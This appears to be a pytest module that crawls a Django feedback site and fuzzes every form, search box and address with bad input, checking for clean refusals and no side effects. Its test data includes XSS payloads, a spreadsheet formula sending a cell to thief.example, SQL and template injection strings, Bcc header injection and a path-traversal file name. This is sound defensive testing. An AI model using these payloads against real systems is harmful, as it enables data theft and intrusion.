"""Every form there is, and what somebody careless, curious or hostile might put into it.

The world is furnished once, every page is walked, and each form found is posted with each kind of bad input. Whatever a
form did is undone before the next. Never a 500; what is wrong is said plainly beside its question; what was typed stays;
what was refused changed nothing.
"""

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client, override_settings

from feedback.drafts import views
from tests import builders, notify
from tests.cast import Cast
from tests.house import crawl, world
from tests.house.trying import NOT_KEPT, Site, Tried, post_all, report, undone
from tests.house.walking import asked

HUGE = "We said this many times. " * 42_000  # more than 1 MB
MARKUP = '<script>alert("hello")</script><img src=x onerror=alert(1)> [a link](javascript:alert(1)) **bold**'
TEXTS = {
    "unseen and odd": "One\x01\x08\x1b[31m\x7f\x85\u200b\u2028two \u202eOne\u2066 two\u202c\u200f"
    "\U0001f33b Gr\u00fc\u00dfe \U00010348 \U000e0041 e\u0301\u0301\u0301 &#xD83D; \\ud83d",
    "nulls": "One\x00two",
    "formula and markup": '=HYPERLINK("http://thief.example/?"&A1)' + MARKUP + " {{ 7 * 7 }}{% debug %}${7*7}%(x)s%s{0}"
    "'; DROP TABLE groups_person; -- \" ` \\",
    "headers": "Hello\r\nBcc: thief@example.org\r\n\r\nEND:VCALENDAR\r\nDear all",
    "blank": " \t\u00a0\u3000\r\n ",
}
WRONG = ("not-one-of-these", "-1", "99999999999999999999", "\u0661\u0662", "1\x00")
EXTRA = {
    "is_site_admin": "on", "is_active": "", "group": "1", "group_id": "2", "by": "1", "said_by": "1", "stage": "ANSWERED",
    "pk": "1", "id": "1", "organisation": "2", "person": "1", "left_at": "", "published_at": "2026-01-01", "slug": "mine",
    "__class__": "x", "a[b]": "c", "\U0001f33b": "x", "": "nameless",
}  # fmt: skip
WITHOUT_TOKEN = {"stop"}  # mail programs stop letters by one click, and have no page to take a token from


pytestmark = pytest.mark.django_db


# --- the world, once ---

# allauth looks at the machine's own clock: whoever stands at a step of signing in does so until the last form was tried.
HOWEVER_LONG = dict.fromkeys(("ACCOUNT_LOGIN_TIMEOUT", "ACCOUNT_LOGIN_BY_CODE_TIMEOUT"), 24 * 60 * 60)


@pytest.fixture
def _django_db_helper(site):
    """pytest-django would begin a transaction for each test; here one holds the world for all of them."""
    return site


@pytest.fixture(scope="module")
def site(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        mode = {"TEST_MODE": True, "CLOCK_AT": builders.NOW.isoformat(), "NOTIFY_KEY": notify.KEY}
        with override_settings(**mode, **HOWEVER_LONG):
            furnished = world.World(Cast(), builders.NOW)
            found = crawl.walk(furnished.personas, furnished.starts)
            yield Site(furnished, found)
        transaction.set_rollback(True)


def texts_of(form):
    return [one for one in form.fields if one.kind in crawl.QUIET or one.kind == "textarea"]


def refused_or_harmless(one):
    if one.refused:
        one.check_refusal()
    one.check_harmless()


# --- the tests ---


def test_every_page_that_takes_a_form_was_found_and_no_link_leads_nowhere(site):
    posts = {one.name for _, one in crawl.addresses() if "POST" in one.callback.door.methods}
    elsewhere = {"mfa_add_webauthn", "account_logout", "try_letter_again", "demo_sign_in"} - posts
    by_programs = {
        "mail_hook",
        "notify_hook",
        "text_hook",
    }  # no page leads there; their rooms' tests give them bad input
    assert posts - site.found.views() - elsewhere - by_programs == set()
    assert site.found.broken == []
    assert len(site.forms) > 90


def test_every_form_says_which_operation_it_is_and_carries_its_token(site):
    assert [str(form) for form in site.forms if not form.deed] == []


def test_nothing_filled_in(site):
    def check(one):
        if one.refused and one.form.fields:
            one.check_refusal()

    report(post_all(site, site.forms, lambda form: [{}, {f.name: "" for f in form.fields if f.kind != "file"}], check))


# What a form takes is decided by the same lines on every database. PostgreSQL refuses nulls and numbers that are too large itself.
@pytest.mark.parametrize("text", asked(list(TEXTS), ["unseen and odd", "nulls"]))
def test_odd_words_in_every_question(site, text):
    text = TEXTS[text]

    def filled(form):
        if texts_of(form):
            yield form.filled(**{one.name: text for one in texts_of(form)})
            free = [
                f
                for f in texts_of(form)
                if f.kind in ("text", "textarea")
                and not f.mode
                and crawl.plain_answer(f) in ("Some plain words", f.value)
            ]
            if len(free) < len(texts_of(form)):
                yield form.filled(**{one.name: text for one in free})

    report(post_all(site, site.forms, filled, refused_or_harmless))


def test_a_million_letters_in_each_question(site):
    def filled(form):
        return [form.filled(**{one.name: HUGE}) for one in texts_of(form) if one.kind != "hidden"]

    def check(one):
        name = next(name for name, value in one.sent.items() if value is HUGE)
        asked = next(f for f in one.form.fields if f.name == name)
        if one.refused:
            head = one.answer.content[: one.answer.content.find(b"We said this many times. We said")]
            small = head.decode() + one.answer.content[-20_000:].decode(errors="ignore")
            if "nhsuk-error-summary" not in small:
                one.wrong.append("refused without saying what is wrong")
            if asked.kind not in NOT_KEPT and HUGE.strip().encode() not in one.answer.content:
                one.wrong.append(f"{name} is not kept")
        if one.changed and one.refused:
            one.wrong.append(f"refused, but changed {', '.join(one.changed)}")

    report(post_all(site, site.forms, filled, check))


def test_more_than_a_page_may_send_is_answered_in_plain_words(site):
    form = next(form for form in site.forms if form.deed == "say-needs")
    with undone():
        one = Tried(site, form, {"access_needs": HUGE * 2, "communication_needs": HUGE * 2})
        assert one.status in (400, 413)
        assert "too" in one.page.h1.get_text()
        assert one.changed == []


@pytest.mark.parametrize("value", asked(WRONG, WRONG[2:]))
def test_answers_of_the_wrong_kind_to_numbers_days_and_choices(site, value):
    def wrong_ones(form):
        ends = ("_day", "_month", "_year")
        return [
            f
            for f in form.fields
            if f.kind in ("select", "radio", "checkbox", "number") or f.mode == "numeric" or f.name.endswith(ends)
        ]

    def filled(form):
        names = [f.name for f in wrong_ones(form) if len(f.options) != 1]
        if names:
            yield form.filled(**dict.fromkeys(names, value))
        hidden = form.asks("hidden")
        if hidden:
            yield form.filled(**{f.name: value for f in hidden})

    def check(one):
        if one.refused:
            one.check_refusal()
        elif one.changed and one.form.deed in ("post", "plan", "answer", "agree", "verdict", "reply", "check"):
            hidden = {f.name for f in one.form.asks("hidden")}
            if not {name for name, said in one.sent.items() if said == value} <= hidden:
                one.wrong.append(f"took {value!r}")

    report(post_all(site, site.forms, filled, check))


DAYS = [
    ("8", "dec", "9999"),
    ("31", "2", "2026"),
    ("0", "0", "0000"),
    ("8", "13", "2026"),
    ("1", "1", "0001"),
    ("8", "", "2026"),
]


@pytest.mark.parametrize("day", asked(DAYS, DAYS[:1]))
def test_days_that_do_not_exist(site, day):
    def starts(form):
        return {f.name[:-6] for f in form.fields if f.name.endswith("_month")}

    def filled(form):
        if starts(form):
            parts = dict(zip(("day", "month", "year"), day, strict=True))
            days = {f"{start}_{part}": said for start in starts(form) for part, said in parts.items()}
            yield form.filled(**days, **({"paused": "on"} if form.deed == "choose" else {}))

    def check(one):
        if one.refused:
            one.check_refusal(*(f"{start}_day" for start in starts(one.form)))
        else:
            one.wrong.append(f"took the day {day}")

    report(post_all(site, site.forms, filled, check))


def test_fields_nobody_asked_for_change_nothing(site):
    def filled(form):
        yield form.filled()

    plain = post_all(site, site.forms, filled, lambda one: None)
    for before in plain:
        names = {f.name for f in before.form.fields}
        with undone():
            after = Tried(site, before.form, before.sent | {k: v for k, v in EXTRA.items() if k not in names})
        if (after.status, after.changed) != (before.status, before.changed):
            before.wrong.append(
                f"with more fields {after.status} {after.changed}, without {before.status} {before.changed}"
            )
    report(plain)


def test_a_form_without_its_token_is_refused_and_says_what_to_do(site):
    careful = {}

    def guarded(form):
        if form.who not in careful:
            careful[form.who] = Client(enforce_csrf_checks=True)
            careful[form.who].cookies = form.client.cookies
        return careful[form.who]

    tried = []
    for form in site.forms:
        if form.deed in WITHOUT_TOKEN:
            continue
        with undone():
            one = Tried(site, form, form.filled(), client=guarded(form))
            if one.status != 403 or "Go back" not in one.page.get_text():
                one.wrong.append(f"without its token: {one.status}")
            if one.changed:
                one.wrong.append(f"without its token it changed {one.changed}")
        tried.append(one)
    report(tried)


ODD_FILES = {
    "nothing": (),
    "empty": ("empty.csv", b""),
    "words": "just words",
    "bytes": ("picture.xlsx", bytes(range(256)) * 50),
    "half a workbook": ("half.xlsx", b"PK\x03\x04" + bytes(500)),
    "nulls": ("nulls.csv", b"We said\x00,We did\n\x00\x00,\x00\n"),
    "odd name": ("../../etc/\u202epasswd\x00\r\nx: y.csv", b"We said,We did\n=1+1,@x\n"),
    "one line of a megabyte": ("long.csv", b"a" * 1_000_000 + b",b\n"),
    "many columns": ("wide.csv", b"a," * 40_000 + b"\n" + b"b," * 40_000),
    "not text": ("utf.csv", b"\xff\xfe\x00\xd8\x00\xd8,\xff\n"),
}


@pytest.mark.parametrize("odd", asked(list(ODD_FILES), ["nulls", "odd name", "not text"]))
def test_odd_files(site, odd):
    odd = ODD_FILES[odd]

    def filled(form):
        for one in form.asks("file"):
            yield form.filled(**{one.name: SimpleUploadedFile(*odd) if isinstance(odd, tuple) and odd else odd or ""})

    tried = post_all(site, site.forms, filled, refused_or_harmless)
    assert tried
    report(tried)


SEARCHED = [*TEXTS.values(), *WRONG, "x" * 1_500]


@pytest.mark.parametrize("text", asked(SEARCHED, [TEXTS["unseen and odd"], TEXTS["nulls"], *WRONG[2:]]))
def test_odd_words_in_every_search_and_address(site, text):
    def filled(form):
        yield {one.name: text for one in form.fields}

    tried = post_all(site, site.searches, filled, lambda one: one.check_harmless())
    pages = {path.partition("?")[0]: who for who, path in site.found.pages if "page=" in path or "show=" in path}
    assert tried and pages
    for path, who in pages.items():
        client = site.world.personas[who]
        client.raise_request_exception = False
        for name in ("page", "show", "topic", "answer", "next"):
            with undone():
                assert client.get(path, {name: text}).status_code in (200, 302, 404), (path, name)
    report(tried)


def test_numbers_no_database_holds_in_an_address_are_pages_that_do_not_exist(site):
    slug, wrong = site.world.cast.group.slug, []
    for number in ("0", "99999999999999999999", "9" * 400):
        for route, one in crawl.addresses():
            if "<int:" in route and "GET" in one.callback.door.methods:
                path = "/" + re.sub(r"<int:\w+>", number, route.replace("<slug:slug>", slug))
                for who in ("farah", "ada", "sam"):
                    client = site.world.personas[who]
                    client.raise_request_exception = False
                    with undone():
                        status = client.get(path).status_code
                    if status not in (404, 403, 302):
                        wrong.append(f"{path[:80]} as {who}: {status}")
    assert wrong == []


# --- the harness itself goes red ---


def test_a_form_that_breaks_loses_words_or_speaks_jargon_is_seen(site, monkeypatch):
    form = next(form for form in site.forms if form.deed == "post")

    def outcome(text=""):
        with undone():
            one = Tried(site, form, form.filled(words=text))
            if one.refused:
                one.check_refusal("words")
            return one.wrong

    assert outcome() == []
    real = views.forms.SaySomething

    class Forgetful(real):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            self.fields["words"].error_messages["required"] = "This field is required."
            if self.is_bound:
                self.data = {**self.data.dict(), "why_it_matters": ""}

    monkeypatch.setattr(views.forms, "SaySomething", Forgetful)
    seen = " ".join(outcome())
    assert "not plain: This field is required." in seen and "why_it_matters was" in seen
    monkeypatch.setattr(views.forms, "SaySomething", lambda *args, **kwargs: 1 / 0)
    assert outcome()[0].startswith("500 ZeroDivisionError")


def test_a_refusal_that_wrote_something_is_seen(site, monkeypatch):
    class Writes(views.forms.SaySomething):
        def is_valid(self):
            builders.person("Somebody who was written by mistake")
            return super().is_valid()

    monkeypatch.setattr(views.forms, "SaySomething", Writes)
    form = next(form for form in site.forms if form.deed == "post")
    with undone():
        one = Tried(site, form, form.filled(words=""))
        one.check_refusal("words")
    assert one.wrong == ["refused, but changed groups_person"]
